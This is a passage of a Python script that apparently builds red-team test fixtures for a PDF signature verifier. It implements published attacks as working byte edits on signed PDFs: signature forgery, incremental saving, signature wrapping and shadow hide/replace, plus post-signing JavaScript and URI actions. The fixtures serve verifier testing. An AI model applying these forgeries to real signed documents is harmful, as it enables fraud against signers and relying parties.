#!/usr/bin/env python3
"""The published PDF signature attacks, variant by variant, on tool-made signatures
(test/fixtures/attacks/pdf-suites), called by make-attacks.sh.

Classes: "1 Trillion Dollar Refund" (Mladenov et al., CCS 2019: USF, ISA, SWA), "Shadow Attacks"
(Mainka et al., NDSS 2021: hide, replace, hide-and-replace) and "Breaking the Specification:
PDF Certification" (Mainka et al., IEEE S&P 2021: EAA, SSA), plus actions, attachments,
encryption and optional content added after signing. Each file name says the class and the
variant; test/redteam/pdf-attack-suites.test.ts pins the verdicts.

Signatures are made by tools: pdfsig -sign with an NSS database (approval signatures) and
openssl cms (DocMDP certifications, which pdfsig cannot write), at a frozen clock. The attacks
are byte edits afterwards, written by hand (pdf-incremental.py's update writer or a splice).
Bases (written here, then signed):
  shadow   one page whose content shows the genuine text, plus a shadow content stream, a
           shadow font, a shadow catalog and page tree nothing uses when signed; a text field
           Amount with its appearance, a Square annotation (an overlay) over part of the text,
           an /OpenAction GoTo action and a /Names dictionary, an optional-content group that
           is OFF when signed and a marked block of text that it hides.
  cert     the same document certified by openssl cms with DocMDP P=1, P=2 or P=3.
Usage: make-attacks-pdf-suites.py OUT_DIR (run from samples/; needs pdfsig, certutil,
pk12util, openssl, faketime).
"""
import importlib.util
import os
import re
import subprocess
import sys
import tempfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("pdf_incremental", os.path.join(HERE, "pdf-incremental.py"))
pdfi = importlib.util.module_from_spec(spec)
spec.loader.exec_module(pdfi)

T_SIGN = "2025-03-01 09:00:00"
T_LATER = "2025-03-01 10:00:00"


def run(*args: str) -> None:
    subprocess.run(args, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def text_stream(lines: list[str], extra: list[str] | None = None) -> bytes:
    ops = ["BT", "/F1 12 Tf", "72 770 Td", "16 TL"]
    ops += ["(%s) '" % line for line in lines]
    ops.append("ET")
    ops += extra or []
    return ("\n".join(ops) + "\n").encode("ascii")


GENUINE = ["UY BAN NHAN DAN TINH THU NGHIEM", "Cong van so 123/UBND-VP",
           "So tien hoan tra: 100 dong", "Kinh gui: Cac so, ban, nganh tinh."]
SHADOW = ["UY BAN NHAN DAN TINH THU NGHIEM", "Cong van so 123/UBND-VP",
          "So tien hoan tra: 1000000000000 dong", "Kinh gui: Cac so, ban, nganh tinh."]
# Text under optional content group 20 (OFF when signed): shown once the group is turned on.
HIDDEN_OC = ["/OC /oc1 BDC", "BT /F1 12 Tf 72 600 Td (THEM: chuyen tien cho tai khoan 999) Tj ET", "EMC"]


def write_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(pdf)
        pdf += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref = len(pdf)
    size = max(objects) + 1
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        pdf += b"%010d 00000 n \n" % offsets[num] if num in offsets else b"0000000000 00001 f \n"
    file_id = "6b79736f2d7368616461772d62617365"  # fixed: "kyso-shadow-base"
    pdf += (f"trailer\n<< /Size {size} /Root {root} 0 R /ID [<{file_id}> <{file_id}>] >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(pdf)


def shadow_base() -> bytes:
    genuine = text_stream(GENUINE, HIDDEN_OC)
    shadow = text_stream(SHADOW)
    square = b"q 1 1 0 rg 0 0 200 20 re f Q\n"
    amount = b"/Tx BMC q BT /F1 12 Tf 0 g 2 6 Td (100) Tj ET Q EMC\n"
    amount_shadow = b"/Tx BMC q BT /F1 12 Tf 0 g 2 6 Td (1000000000000) Tj ET Q EMC\n"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R /OpenAction 21 0 R /Names 22 0 R "
           b"/OCProperties 23 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> "
           b"/Properties << /oc1 20 0 R >> >> /Contents 5 0 R /Annots [7 0 R 8 0 R 9 0 R 26 0 R 13 0 R] >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        5: pdfi.stream(genuine),
        6: b"<< /Fields [7 0 R 8 0 R 9 0 R 26 0 R] /DR << /Font << /F1 4 0 R >> >> /DA (/F1 12 Tf 0 g) >>",
        7: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigPerson) /Rect [0 0 0 0] /F 132 /P 3 0 R >>",
        8: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigOrganization) /Rect [0 0 0 0] /F 132 /P 3 0 R >>",
        9: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /V (100) /DA (/F1 12 Tf 0 g) "
           b"/Rect [300 500 500 520] /F 4 /P 3 0 R /AP << /N 10 0 R >> >>",
        10: pdfi.stream(amount, b" /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 4 0 R >> >>"),
        11: pdfi.stream(shadow),
        12: pdfi.stream(amount_shadow, b" /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 4 0 R >> >>"),
        # A Square annotation drawn over the third line: an overlay the signer saw.
        13: b"<< /Type /Annot /Subtype /Square /Rect [70 720 400 740] /F 4 /C [1 1 0] /IC [1 1 0] "
            b"/P 3 0 R /AP << /N 14 0 R >> >>",
        14: pdfi.stream(b"q 1 1 0 rg 0 0 330 20 re f Q\n", b" /Type /XObject /Subtype /Form /BBox [0 0 330 20]"),
        # Shadow font: Helvetica with two digits swapped by /Differences (codes 49 '1' and 57 '9').
        15: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
            b"/BaseEncoding /WinAnsiEncoding /Differences [49 /nine 57 /one] >> >>",
        # A shadow document: catalog, page tree and page over the shadow content.
        16: b"<< /Type /Catalog /Pages 17 0 R /AcroForm 6 0 R >>",
        17: b"<< /Type /Pages /Kids [18 0 R] /Count 1 >>",
        18: b"<< /Type /Page /Parent 17 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents 11 0 R /Annots [7 0 R 8 0 R] >>",
        19: square,
        20: b"<< /Type /OCG /Name (Phu luc) >>",
        21: b"<< /S /GoTo /D [3 0 R /Fit] >>",
        22: b"<< /Dests << >> >>",
        23: b"<< /OCGs [20 0 R] /D 24 0 R >>",
        24: b"<< /Order [20 0 R] /OFF [20 0 R] >>",
        # An unused stream whose data is a complete second definition of object 5 (shadow text).
        25: pdfi.stream(b"5 0 obj\n" + pdfi.stream(text_stream(SHADOW)) + b"\nendobj\n"),
        # A combo box whose value is its first option, shown by its appearance.
        26: b"<< /Type /Annot /Subtype /Widget /FT /Ch /Ff 131072 /T (Decision) /Opt [(Dong y) (Khong dong y)] "
            b"/V (Dong y) /DA (/F1 12 Tf 0 g) /Rect [300 460 500 480] /F 4 /P 3 0 R /AP << /N 27 0 R >> >>",
        27: pdfi.stream(b"/Tx BMC q BT /F1 12 Tf 0 g 2 6 Td (Dong y) Tj ET Q EMC\n",
                        b" /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 4 0 R >> >>"),
    }
    objects[19] = pdfi.stream(square, b" /Type /XObject /Subtype /Form /BBox [0 0 200 20]")
    return write_pdf(objects)


class Signer:
    def __init__(self, work: str):
        self.work = work
        nss = os.path.join(work, "nss")
        os.mkdir(nss)
        self.nss = "sql:" + nss
        run("certutil", "-N", "-d", self.nss, "--empty-password")
        for nick in ("person", "organization"):
            p12 = os.path.join(work, nick + ".p12")
            run("openssl", "pkcs12", "-export", "-in", f"ca/{nick}.pem", "-inkey", f"ca/{nick}.key", "-name", nick,
                "-passout", "pass:", "-out", p12)
            run("pk12util", "-i", p12, "-d", self.nss, "-W", "")
        run("certutil", "-A", "-d", self.nss, "-n", "kyso-test-root", "-t", "CT,C,C", "-i", "pki/kyso-test-root.pem")
        run("certutil", "-A", "-d", self.nss, "-n", "kyso-test-intermediate", "-t", ",,", "-i", "ca/intermediate.pem")

    def pdfsig(self, data: bytes, field: str, nick: str, when: str) -> bytes:
        src, dst = os.path.join(self.work, "in.pdf"), os.path.join(self.work, "out.pdf")
        open(src, "wb").write(data)
        if os.path.exists(dst):
            os.remove(dst)
        run("faketime", "-f", when, "pdfsig", "-sign", field, "-nssdir", self.nss, "-nick", nick, "-digest", "SHA256",
            src, dst)
        return open(dst, "rb").read()

    def certify(self, data: bytes, field: str, p: int) -> bytes:
        src, dst = os.path.join(self.work, "in.pdf"), os.path.join(self.work, "cert.pdf")
        tbs, der = os.path.join(self.work, "cert.tbs"), os.path.join(self.work, "cert.p7s")
        open(src, "wb").write(data)
        run("python3", "pdf-incremental.py", "prepare", src, dst, tbs, "--field", field, "--docmdp", str(p),
            "--time", T_SIGN, "--name", "Nguyen Van An")
        run("faketime", "-f", T_SIGN, "openssl", "cms", "-sign", "-binary", "-outform", "DER", "-in", tbs,
            "-signer", "ca/person.pem", "-inkey", "ca/person.key", "-certfile", "ca/intermediate.pem", "-out", der)
        run("python3", "pdf-incremental.py", "embed", dst, der)
        return open(dst, "rb").read()


# ---------------------------------------------------------------- helpers on a signed file

def sig_dict_span(data: bytes) -> tuple[int, int]:
    """Start and end of the last signature dictionary's text (from << to its >>)."""
    br = data.rindex(b"/ByteRange")
    start = data.rindex(b"<<", 0, data.rindex(b"/Type /Sig", 0, br) + 1)
    end = data.index(b">>", data.index(b"]", br)) + 2
    return start, end


def byte_range(data: bytes) -> list[int]:
    match = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
    return [int(match.group(i)) for i in range(1, 5)]


def same_length(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old), (old, new)
    return new + b" " * (len(old) - len(new))


def edit_sig(data: bytes, pattern: bytes, repl: bytes) -> bytes:
    """Replaces `pattern` (a regex) inside the signature dictionary, keeping every offset."""
    start, end = sig_dict_span(data)
    text = data[start:end]
    match = re.search(pattern, text, re.S)
    assert match, pattern
    new = text[:match.start()] + same_length(match.group(0), repl) + text[match.end():]
    return data[:start] + new + data[end:]


def set_byte_range(data: bytes, numbers: bytes) -> bytes:
    return edit_sig(data, rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [" + numbers + b"]")


def gap(data: bytes) -> tuple[int, int]:
    r = byte_range(data)
    return r[1], r[2]


def update(data: bytes, objects: dict[int, bytes], trailer_extra: bytes = b"", root: int | None = None) -> bytes:
    up = pdfi.Update(data)
    for num, body in objects.items():
        if num >= up.size:
            up.size = num + 1
        up.objects[num] = body
    if root is not None:
        up.root = root
    out = up.encode()
    if trailer_extra:
        pos = out.rindex(b"trailer\n<<") + len(b"trailer\n<<")
        out = out[:pos] + b" " + trailer_extra + out[pos:]
    return out


def body(data: bytes, num: int) -> bytes:
    return pdfi.object_body(data, num)


def with_annot(data: bytes, page: int, num: int, annot: bytes, appearance: bytes | None = None) -> bytes:
    objects = {num: annot}
    if appearance is not None:
        objects[num + 1] = appearance
    page_body = body(data, page)
    annots = pdfi.dict_get(page_body, "Annots")
    objects[page] = pdfi.dict_set(page_body, "Annots", annots[:-1].rstrip() + b" %d 0 R]" % num)
    return update(data, objects)


def black_box(width: int, height: int) -> bytes:
    return pdfi.stream(b"q 0 0 0 rg 0 0 %d %d re f Q\n" % (width, height),
                       b" /Type /XObject /Subtype /Form /BBox [0 0 %d %d]" % (width, height))


# ---------------------------------------------------------------- the attacks

def usf(signed: bytes) -> dict[str, bytes]:
    """Universal Signature Forgery: the signature dictionary made unverifiable, in place and in an
    update that also changes the page (where a viewer skipping the check shows a 'signed' panel)."""
    out: dict[str, bytes] = {}
    contents = rb"/Contents\s*<[0-9A-Fa-f\s]*>"
    start, end = gap(signed)
    hexlen = end - start
    in_place = {
        "contents-key-renamed": (contents, None),
        "contents-null": (contents, b"/Contents null"),
        "contents-integer": (contents, b"/Contents 0"),
        "contents-name": (contents, b"/Contents /Adobe"),
        "contents-array": (contents, b"/Contents [<00>]"),
        "contents-dict": (contents, b"/Contents << >>"),
        "filter-missing": (rb"/Filter\s*/[A-Za-z.]+", b""),
        "filter-changed": (rb"/Filter\s*/[A-Za-z.]+", b"/Filter /Entrust.PPKEF"),
        "subfilter-sha1": (rb"/SubFilter\s*/[A-Za-z0-9.]+", b"/SubFilter /adbe.pkcs7.sha1"),
        "subfilter-x509": (rb"/SubFilter\s*/[A-Za-z0-9.]+", b"/SubFilter /adbe.x509.rsa_sha1"),
        "subfilter-rfc3161": (rb"/SubFilter\s*/[A-Za-z0-9.]+", b"/SubFilter /ETSI.RFC3161"),
        "type-doctimestamp-no-filter": (rb"/Type\s*/Sig\s*/Filter\s*/[A-Za-z.]+", b"/Type /DocTimeStamp"),
        "byterange-key-renamed": (rb"/ByteRange", b"/ByteRangX"),
    }
    for name, (pattern, repl) in in_place.items():
        if repl is None:
            data = edit_sig(signed, rb"/Contents", b"/Contentz")
        else:
            # A shorter /Contents value leaves the gap: blank it too, so that the file stays a PDF.
            data = edit_sig(signed, pattern, repl)
        out[f"usf-inplace-{name}.pdf"] = data
    r = byte_range(signed)
    size = len(signed)
    ranges = {
        "byterange-overlapping": b"0 %d %d %d" % (r[1], r[1] - 200, size - r[1] + 200),
        "byterange-short": b"0 %d %d %d" % (r[1], r[2], r[3] - 100),
        "byterange-first-only": b"0 %d %d 0" % (r[1], r[2]),
        "byterange-start-not-zero": b"100 %d %d %d" % (r[1] - 100, r[2], r[3]),
        "byterange-second-before-first": b"%d %d 0 %d" % (r[2], r[3], r[1]),
        "byterange-huge": b"0 %d %d 99999999999999999999" % (r[1], r[2]),
        "byterange-negative-gap": b"0 %d %d %d" % (r[2], r[1], size - r[1]),
    }
    for name, numbers in ranges.items():
        out[f"usf-inplace-{name}.pdf"] = set_byte_range(signed, numbers)

    # The USF as published: a later update rewrites the page and redefines the signature
    # dictionary so that a viewer cannot check it (but may still list it).
    sig_num = int(re.search(rb"/V\s+(\d+)\s+0\s+R", body(signed, 7)).group(1))
    sig_body = body(signed, sig_num)
    page_changes = {5: pdfi.stream(text_stream(SHADOW, HIDDEN_OC))}
    variants = {
        "contents-missing": re.sub(rb"/Contents\s*<[0-9A-Fa-f]*>", b"", sig_body),
        "contents-null": re.sub(rb"/Contents\s*<[0-9A-Fa-f]*>", b"/Contents null", sig_body),
        "contents-empty": re.sub(rb"/Contents\s*<[0-9A-Fa-f]*>", b"/Contents <>", sig_body),
        "contents-zeros": re.sub(rb"/Contents\s*<[0-9A-Fa-f]*>", b"/Contents <" + b"0" * hexlen + b">", sig_body),
        "byterange-missing": re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", sig_body),
        "byterange-null": re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null", sig_body),
        "byterange-whole-new-file": None,  # filled below: a /ByteRange over the new file, old /Contents
        "filter-subfilter-missing": re.sub(rb"/(Sub)?Filter\s*/[A-Za-z0-9.]+", b"", sig_body),
    }
    for name, new_sig in variants.items():
        if new_sig is None:
            continue
        out[f"usf-update-{name}.pdf"] = update(signed, {**page_changes, sig_num: new_sig})
    # /ByteRange rewritten to cover the new file with its gap at the new /Contents: needs two passes.
    placeholder = b"/ByteRange [0 0000000000 0000000000 0000000000]"
    new_sig = re.sub(rb"/ByteRange\s*\[[^\]]*\]", placeholder, sig_body)
    data = bytearray(update(signed, {**page_changes, sig_num: new_sig}))
    br = data.rindex(placeholder)
    cstart = data.index(b"/Contents <", data.rindex(b"%d 0 obj" % sig_num)) + len(b"/Contents ")
    cend = data.index(b">", cstart) + 1
    data[br:br + len(placeholder)] = b"/ByteRange [0 %010d %010d %010d]" % (cstart, cend, len(data) - cend)
    out["usf-update-byterange-whole-new-file.pdf"] = bytes(data)
    return out


def isa(signed: bytes) -> dict[str, bytes]:
    """Incremental Saving Attack variants on a pdfsig signature."""
    out: dict[str, bytes] = {}
    new_content = pdfi.stream(text_stream(SHADOW, HIDDEN_OC))
    full = update(signed, {5: new_content})
    tail = full[len(signed) + (0 if signed.endswith(b"\n") else 1):]
    objects = tail[:tail.index(b"xref\n")]
    trailer = tail[tail.index(b"trailer"):tail.index(b"startxref")]
    prev = pdfi.last_startxref(signed)
    out["isa-body-only.pdf"] = signed + objects
    out["isa-body-and-trailer-no-xref.pdf"] = signed + objects + trailer + b"startxref\n%d\n%%%%EOF\n" % prev
    # A trailer whose startxref points at the signed revision's xref, the new object found only by
    # a reader that scans (no xref entry lists it).
    out["isa-body-trailer-startxref-old.pdf"] = signed + objects + trailer + b"startxref\n%d\n%%%%EOF\n" % prev
    # startxref pointing at the appended trailer (no xref keyword).
    pos = len(signed) + len(objects)
    out["isa-startxref-at-trailer.pdf"] = signed + objects + trailer + b"startxref\n%d\n%%%%EOF\n" % pos
    out["isa-update.pdf"] = full
    out["isa-update-prev-missing.pdf"] = re.sub(rb"/Prev \d+", b"", full)
    out["isa-update-prev-zero.pdf"] = re.sub(rb"/Prev \d+", b"/Prev 0", full)
    out["isa-update-prev-self.pdf"] = re.sub(rb"/Prev \d+", b"/Prev %d" % pdfi.last_startxref(full), full)
    out["isa-update-prev-into-gap.pdf"] = re.sub(rb"/Prev \d+", b"/Prev %d" % (gap(signed)[0] + 10), full)
    # The update written, then a second (empty) xref section whose /Prev skips it, pointing at the
    # signed revision: the page redefinition sits between two revisions no chain reaches.
    second = len(full)
    skip = full + (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n"
                   b"startxref\n%d\n%%%%EOF\n" % (int(pdfi.trailer_value(pdfi.trailer_dict(signed), b"Size")) + 0,
                                                  prev, second))
    out["isa-update-skipped-by-second-xref.pdf"] = skip
    # After %%EOF: an object with no xref, or a full update without %%EOF at its end.
    out["isa-update-no-eof.pdf"] = full[:full.rindex(b"%%EOF")]
    out["isa-update-crlf-cr.pdf"] = full.replace(b"\nendobj\n", b"\rendobj\r")[:len(signed)] + \
        full[len(signed):].replace(b"\n", b"\r")
    # An update of xref entries only that points into the signed revision: see shadow().
    return out


def der_length(hexstr: bytes) -> int | None:
    """The length in hex digits of the DER SEQUENCE at the start of `hexstr`, or None when its
    length is indefinite (pdfsig's NSS writes BER: the end-of-contents zeros run into the padding)."""
    raw = bytes.fromhex(hexstr[:12].decode())
    if raw[1] == 0x80:
        return None
    if raw[1] < 0x80:
        return 2 * (2 + raw[1])
    n = raw[1] & 0x7F
    return 2 * (2 + n + int.from_bytes(raw[2:2 + n], "big"))


def swa(signed: bytes, prefix_name: str) -> dict[str, bytes]:
    """Signature Wrapping: the signed bytes kept, moved, and the gap filled with objects."""
    out: dict[str, bytes] = {}
    r = byte_range(signed)
    part1, hexstr, part2 = signed[:r[1]], signed[r[1]:r[2]], signed[r[2]:]
    malicious = pdfi.stream(text_stream(SHADOW, HIDDEN_OC))
    prev = pdfi.last_startxref(signed)
    size = int(pdfi.trailer_value(pdfi.trailer_dict(signed), b"Size"))

    def xref_for(at: int, xref_at: int) -> bytes:
        return (b"xref\n0 1\n0000000000 65535 f \n5 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R "
                b"/Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (at, size, prev, xref_at))
    # 1. The classic: the second signed part moved to the end, inside a stream nobody reads; the
    # signature dictionary closed in the gap with a new /ByteRange over the moved part, followed by
    # the malicious object and an xref section.
    prefix = part1 + hexstr
    tail_dict = b" /ByteRange [0 %010d %010d %010d] >>\nendobj\n"
    body_objs = b"5 0 obj\n" + malicious + b"\nendobj\n"
    holder_head = b"%d 0 obj\n<< /Length %d >>\nstream\n" % (size, len(part2))

    def assemble(c: int, d: int) -> bytes:
        head = prefix + tail_dict % (len(part1), c, d)
        objs_at = len(head)
        return head + body_objs + xref_for(objs_at, objs_at + len(body_objs)) + holder_head
    c = len(assemble(0, 0))
    out[f"swa-{prefix_name}-second-part-moved.pdf"] = assemble(c, len(part2)) + part2 + b"\nendstream\nendobj\n"
    # 2. The gap keeps its length and /ByteRange, but the padding after the CMS holds an object and a
    # later xref entry points into it (a reader that skips non-hex characters still decodes the CMS).
    used = der_length(hexstr[1:])
    if used is None:
        return out
    cms_hex = hexstr[1:1 + used]
    room = len(hexstr) - 2 - used
    for name, obj, skip in (("object-in-contents-padding", b" 5 0 obj " + malicious + b" endobj ", 1),
                            ("object-between-ranges", b"> 5 0 obj " + malicious + b" endobj <", 2)):
        assert len(obj) <= room
        filled = b"<" + cms_hex + obj + b"0" * (room - len(obj)) + b">"
        spliced = part1 + filled + part2
        at = len(part1) + 1 + len(cms_hex) + skip
        out[f"swa-{prefix_name}-{name}.pdf"] = spliced + xref_for(at, len(spliced))
    return out


def shadow(signed: bytes) -> dict[str, bytes]:
    """Shadow attacks on the shadow base signed by pdfsig (page 3, content 5, field 9, overlay 13)."""
    out: dict[str, bytes] = {}
    page = body(signed, 3)
    form = body(signed, 6)
    field = body(signed, 9)
    # hide: the overlay removed, hidden, moved or redrawn empty.
    out["shadow-hide-overlay-removed.pdf"] = update(signed, {3: page.replace(b" 13 0 R]", b"]")})
    sq = body(signed, 13)
    out["shadow-hide-overlay-hidden-flag.pdf"] = update(signed, {13: sq.replace(b"/F 4", b"/F 6")})
    out["shadow-hide-overlay-moved.pdf"] = update(signed, {13: sq.replace(b"/Rect [70 720 400 740]", b"/Rect [0 0 0 0]")})
    out["shadow-hide-overlay-appearance-emptied.pdf"] = update(
        signed, {14: pdfi.stream(b"", b" /Type /XObject /Subtype /Form /BBox [0 0 330 20]")})
    out["shadow-hide-overlay-appearance-repointed.pdf"] = update(
        signed, {13: sq.replace(b"/AP << /N 14 0 R >>", b"/AP << /N 19 0 R >>")})
    # replace: content, fonts, field values.
    out["shadow-replace-content-swapped.pdf"] = update(signed, {3: page.replace(b"/Contents 5 0 R", b"/Contents 11 0 R")})
    out["shadow-replace-content-array.pdf"] = update(signed, {3: page.replace(b"/Contents 5 0 R", b"/Contents [5 0 R 11 0 R]")})
    out["shadow-replace-font-page-resource.pdf"] = update(signed, {3: page.replace(b"/F1 4 0 R", b"/F1 15 0 R")})
    out["shadow-replace-font-object.pdf"] = update(signed, {4: body(signed, 15)})
    out["shadow-replace-font-form-dr.pdf"] = update(signed, {6: form.replace(b"/F1 4 0 R", b"/F1 15 0 R")})
    # A new value with the look the signed revision already carried (allowed: form filling, no lock).
    out["shadow-replace-field-value.pdf"] = update(
        signed, {9: field.replace(b"/V (100)", b"/V (1000000000000)").replace(b"/N 10 0 R", b"/N 12 0 R")})
    # The look swapped to the shadow appearance while /V stays: the value says 100, viewers show 10^12.
    out["shadow-replace-field-appearance-only.pdf"] = update(signed, {9: field.replace(b"/N 10 0 R", b"/N 12 0 R")})
    out["shadow-replace-field-appearance-stream.pdf"] = update(signed, {10: body(signed, 12)})
    # The field's definition changed while its value stays: what the value means, or how it looks.
    choice = body(signed, 26)
    out["shadow-replace-choice-options.pdf"] = update(
        signed, {26: choice.replace(b"/Opt [(Dong y) (Khong dong y)]", b"/Opt [(Khong dong y) (Dong y)]")})
    out["shadow-replace-choice-option-export.pdf"] = update(
        signed, {26: choice.replace(b"/Opt [(Dong y) (Khong dong y)]", b"/Opt [[(Dong y) (Khong dong y)] (Khong dong y)]")})
    out["shadow-replace-field-da-white.pdf"] = update(signed, {9: field.replace(b"/DA (/F1 12 Tf 0 g)", b"/DA (/F1 12 Tf 1 g)")})
    out["shadow-replace-field-maxlen-quadding.pdf"] = update(signed, {9: field[:-2].rstrip() + b" /Q 2 /MaxLen 2 >>"})
    # A second widget of the Amount field, elsewhere on the page, drawing another amount.
    kid = (b"<< /Type /Annot /Subtype /Widget /Parent 9 0 R /Rect [70 720 400 740] /F 4 /P 3 0 R "
           b"/AP << /N 12 0 R >> >>")
    out["shadow-replace-field-widget-added.pdf"] = update(
        signed, {30: kid, 3: page.replace(b" 13 0 R]", b" 13 0 R 30 0 R]")})
    # A new text field (not a signature field) with a value and an appearance over the page.
    new_field = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Note) /V (1000000000000) /DA (/F1 12 Tf 0 g) "
                 b"/Rect [70 720 400 740] /F 4 /P 3 0 R /AP << /N 12 0 R >> >>")
    out["shadow-replace-text-field-added.pdf"] = update(
        signed, {30: new_field, 3: page.replace(b" 13 0 R]", b" 13 0 R 30 0 R]"), 6: form.replace(b" 26 0 R]", b" 26 0 R 30 0 R]")})
    # The signed signature's own widget made visible over the page with a new look.
    sig_widget = body(signed, 7)
    out["shadow-replace-signature-widget-visible.pdf"] = update(
        signed, {7: re.sub(rb"/Rect \[[^\]]*\]", b"/Rect [70 720 400 740]", sig_widget).replace(b"/F 132", b"/F 4")
                 .replace(b"/N 9 0 R", b"/N 30 0 R"), 30: black_box(330, 20)})
    # Form filling at its edges: the new value's widget given another /Rect, flags or /MK is more than
    # filling; a rollover look and an appearance whose /BBox and /Matrix reach past the field (viewers
    # fit it into /Rect) stay filling.
    filled = field.replace(b"/V (100)", b"/V (1000000000000)").replace(b"/N 10 0 R", b"/N 12 0 R")
    out["shadow-fill-rect-enlarged.pdf"] = update(signed, {9: filled.replace(b"/Rect [300 500 500 520]", b"/Rect [0 0 595 842]")})
    out["shadow-fill-flags-changed.pdf"] = update(signed, {9: filled.replace(b"/F 4", b"/F 6")})
    out["shadow-fill-mk-added.pdf"] = update(signed, {9: filled[:-2].rstrip() + b" /MK << /BG [0 0 0] >> >>"})
    out["shadow-fill-rollover.pdf"] = update(
        signed, {9: filled.replace(b"/AP << /N 12 0 R >>", b"/AP << /N 12 0 R /R 30 0 R >>"), 30: black_box(200, 20)})
    out["shadow-fill-appearance-bbox-matrix.pdf"] = update(
        signed, {9: filled.replace(b"/N 12 0 R", b"/N 30 0 R"),
                 30: pdfi.stream(b"q 0 0 0 rg 0 0 595 842 re f Q\n",
                                 b" /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Matrix [1 0 0 1 -300 -500]")})
    # The signed signature replayed: a new visible signature field whose /V is the signed dictionary,
    # or a copy of it (its /ByteRange still points at the old place).
    sig_num = int(re.search(rb"/V (\d+) 0 R", body(signed, 7)).group(1))
    copy_field = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigCopy) /Rect [70 720 400 740] /F 4 /P 3 0 R "
                  b"/V %d 0 R /AP << /N 31 0 R >> >>")
    listed = {3: page.replace(b" 13 0 R]", b" 13 0 R 30 0 R]"), 6: form.replace(b" 26 0 R]", b" 26 0 R 30 0 R]"),
              31: black_box(330, 20)}
    out["usf-update-signature-replayed-same-dict.pdf"] = update(signed, {**listed, 30: copy_field % sig_num})
    out["usf-update-signature-replayed-copy.pdf"] = update(signed, {**listed, 30: copy_field % 32, 32: body(signed, sig_num)})
    # hide-and-replace: the whole document swapped to the shadow one.
    out["shadow-hide-and-replace-root.pdf"] = update(signed, {}, root=16)
    cat = body(signed, 1)
    out["shadow-hide-and-replace-pages.pdf"] = update(signed, {1: cat.replace(b"/Pages 2 0 R", b"/Pages 17 0 R")})
    out["shadow-hide-and-replace-kids.pdf"] = update(signed, {2: body(signed, 2).replace(b"[3 0 R]", b"[18 0 R]")})
    # An update of xref entries only, no objects: page 3's entry pointing at shadow page 18's bytes
    # (a number mismatch) and the catalog's at the shadow catalog's.
    offsets = {n: m.start() + (1 if signed[m.start()] in b"\r\n" else 0)
               for n in (16, 18) for m in [re.search(rb"(?:^|[\r\n])%d 0 obj" % n, signed)]}
    tail = b"" if signed.endswith(b"\n") else b"\n"
    xref_at = len(signed) + len(tail)
    entries = b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % offsets[16]
    out["shadow-hide-and-replace-xref-only.pdf"] = signed + tail + entries + (
        b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size_of(signed), pdfi.last_startxref(signed), xref_at))
    inner = signed.index(b"5 0 obj", signed.index(b"\n25 0 obj") + 10)
    entries = b"xref\n0 1\n0000000000 65535 f \n5 1\n%010d 00000 n \n" % inner
    out["shadow-replace-content-xref-into-stream.pdf"] = signed + tail + entries + (
        b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size_of(signed), pdfi.last_startxref(signed), xref_at))
    out["xref-objstm-duplicate-number.pdf"] = objstm_duplicate(signed, page.replace(b"/Contents 5 0 R", b"/Contents 11 0 R"))
    entries = b"xref\n0 1\n0000000000 65535 f \n3 1\n%010d 00000 n \n" % offsets[18]
    out["shadow-replace-page-xref-only.pdf"] = signed + tail + entries + (
        b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size_of(signed), pdfi.last_startxref(signed), xref_at))
    # Others: actions, attachments, encryption, optional content, geometry.
    out["other-openaction-redefined-javascript.pdf"] = update(
        signed, {21: b"<< /S /JavaScript /JS (app.alert\\('1'\\);) >>"})
    out["other-openaction-added-uri.pdf"] = update(
        signed, {1: cat.replace(b"/OpenAction 21 0 R", b"/OpenAction 30 0 R"), 30: b"<< /S /URI /URI (http://example.invalid/) >>"})
    out["other-names-javascript.pdf"] = update(
        signed, {22: b"<< /Dests << >> /JavaScript << /Names [(a) 30 0 R] >> >>",
                 30: b"<< /S /JavaScript /JS (app.alert\\('1'\\);) >>"})
    out["other-names-embedded-file.pdf"] = update(
        signed, {22: b"<< /Dests << >> /EmbeddedFiles << /Names [(hoadon.xml) 30 0 R] >> >>",
